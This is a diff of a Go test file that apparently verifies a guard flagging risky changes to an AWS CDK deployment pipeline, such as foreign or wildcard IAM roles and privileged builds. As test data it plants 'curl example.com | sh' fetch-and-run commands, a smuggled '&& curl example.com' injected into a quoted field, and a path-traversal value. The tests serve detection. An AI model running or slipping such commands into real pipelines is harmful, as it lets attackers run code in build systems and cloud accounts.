@@ -51,7 +51,8 @@ func TestWhatADeclaredEnvironmentBringsIsToldOnce(t *testing.T) {
 func TestWhatANewEnvironmentDoesNotDeclareIsAnOpening(t *testing.T) {
 	qa := deployedEnvironment{"qa", "nonproduction", "8", "eu-central-1"}
 	eu := deployedEnvironment{"qa", "production", "8", "eu-central-1"}
-	other := deployedEnvironment{"", "", "9", "eu-central-1"}
+	other, edge := deployedEnvironment{"", "", "9", "eu-central-1"}, deployedEnvironment{"", "", "8", edgeRegion}
+	const anotherRole = "arn:aws:iam::888888888888:role/admin"
 	for name, c := range map[string]struct {
 		environment deployedEnvironment
 		plant       func(map[string]assembly.Resource)
@@ -65,13 +66,13 @@ func TestWhatANewEnvironmentDoesNotDeclareIsAnOpening(t *testing.T) {
 			"Stages[test].Actions[More].ActionTypeId.Provider changes"},
 		"the deploy role of another account": {qa, setAction("data.Deploy", "RoleArn", other.role("deploy")),
 			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
-		"a deploy role of another region": {qa, setAction("data.Deploy", "RoleArn", deployedEnvironment{digit: "8", region: "us-east-1"}.role("deploy")),
+		"a deploy role of another region": {qa, setAction("data.Deploy", "RoleArn", edge.role("deploy")),
 			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
-		"a role that is not the bootstrap's": {qa, setAction("data.Deploy", "RoleArn", "arn:aws:iam::888888888888:role/admin"),
+		"a role that is not the bootstrap's": {qa, setAction("data.Deploy", "RoleArn", anotherRole),
 			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
 		"the role of another bootstrap": {qa, setAction("data.Deploy", "RoleArn", strings.Replace(qa.role("deploy"), "hnb659fds", "other", 1)),
 			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
-		"another role of CloudFormation": {qa, setAction("data.Prepare", "Configuration.RoleArn", "arn:aws:iam::888888888888:role/admin"),
+		"another role of CloudFormation": {qa, setAction("data.Prepare", "Configuration.RoleArn", anotherRole),
 			"CloudFormation acts with another role"},
 		"a stack of another environment": {qa, setAction("data.Prepare", "Configuration.StackName", "kasha-live-data"),
 			"Configuration.StackName changes"},
@@ -84,16 +85,18 @@ func TestWhatANewEnvironmentDoesNotDeclareIsAnOpening(t *testing.T) {
 		"a build before the approval":      {eu, setAction("Smoke-qa", "RunOrder", 1.0), "no approvals and checks"},
 		"a smoke test with another command": {qa, replace("Pipeline0qa0Smoke", "bash scripts/smoke", "curl example.com | sh"),
 			"another build project runs"},
-		"a smoke test that controls its host":    {qa, set("Pipeline0qa0Smoke", "Environment.PrivilegedMode", true), "another build project runs"},
+		"a smoke test that controls its host": {qa, set("Pipeline0qa0Smoke", "Environment.PrivilegedMode", true),
+			"another build project runs"},
 		"a smoke test with a role that is there": {qa, set("Pipeline0qa0Smoke", "ServiceRole", arn("Role")), "another build project runs"},
 		"publishing runs another command": {qa, replace("Files", `\"commands\": [`, `\"commands\": [\n        \"curl example.com | sh\",`),
 			"builds run other commands"},
-		"publishing to another account": {qa, replace("Files", "888888888888-eu-central-1", "999999999999-eu-central-1"), "builds run other commands"},
-		"publishing from outside":       {qa, replace("Files", "assembly-qa/", "assembly-qa/../../src/"), "builds run other commands"},
+		"publishing to another account": {qa, replace("Files", "888888888888-eu-central-1", "999999999999-eu-central-1"),
+			"builds run other commands"},
+		"publishing from outside": {qa, replace("Files", "assembly-qa/", "assembly-qa/../../src/"), "builds run other commands"},
 		"publishing and more": {qa, replace("Files", `888888888888-eu-central-1-a8a05a97\\\"`,
 			`888888888888-eu-central-1-a8a05a97\\\" && curl example.com`), "builds run other commands"},
 		"the pipeline assumes another account's role": {qa, replace("Policy", qa.role("deploy"), other.role("deploy")), other.role("deploy")},
-		"the pipeline assumes another role":           {qa, replace("Policy", qa.role("deploy"), "arn:aws:iam::888888888888:role/admin"), "role/admin"},
+		"the pipeline assumes another role":           {qa, replace("Policy", qa.role("deploy"), anotherRole), anotherRole},
 		"the pipeline assumes any role":               {qa, replace("Policy", qa.role("deploy"), "arn:aws:iam::888888888888:role/*"), "role/*"},
 		"files are published with the role that deploys": {qa, replace("FilePolicy", qa.role("file-publishing"), qa.role("deploy")),
 			qa.role("deploy") + " by"},
@@ -104,7 +107,8 @@ func TestWhatANewEnvironmentDoesNotDeclareIsAnOpening(t *testing.T) {
 		"a reader that is no role": {qa, replace("BucketPolicy", qa.role("deploy"), "bootstrap:cdk-hnb659fds-deploy-role"),
 			"bootstrap:cdk-hnb659fds-deploy-role"},
 		"artifacts go to a bucket of another region": {qa, replace("Policy", "store-eu-central-1\"", "store-ap-south-1\""), "store-ap-south-1"},
-		"a role that is there gets what another has": {qa, replace("Pipeline0test0Smoke0Policy", "Pipeline0test0Smoke\"", "Pipeline0live0Smoke\""),
+		"a role that is there gets what another has": {qa,
+			replace("Pipeline0test0Smoke0Policy", "Pipeline0test0Smoke\"", "Pipeline0live0Smoke\""),
 			"codebuild:UpdateReport on ${Pipeline/live/Smoke.Arn} by"},
 		"a role that is there may use the new stage": {qa, replace("Pipeline0test0Smoke0Policy", "Pipeline0test0Smoke\"", "Pipeline0qa0Smoke\""),
 			"codebuild:UpdateReport on ${Pipeline/qa/Smoke.Arn} by"},
